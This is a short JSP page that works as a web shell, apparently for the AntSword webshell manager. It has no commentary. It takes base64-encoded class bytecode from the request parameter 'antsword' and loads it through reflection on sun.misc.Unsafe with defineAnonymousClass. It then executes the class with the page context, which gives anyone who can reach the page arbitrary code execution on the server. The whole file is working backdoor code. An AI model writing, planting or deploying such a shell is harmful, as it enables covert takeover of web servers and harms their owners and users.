<%@ page import="java.lang.reflect.Field" %>
<%
    String p = request.getParameter("antsword");
    if (p != null) {
        Field f = sun.misc.Unsafe.class.getDeclaredField("theUnsafe");
        f.setAccessible(true);
        sun.misc.Unsafe u = (sun.misc.Unsafe) f.get(null);
        byte[] code = java.util.Base64.getDecoder().decode(p);
        Class<?> c = u.defineAnonymousClass(java.io.File.class, code, null);
        c.newInstance().equals(pageContext);
    }
%>
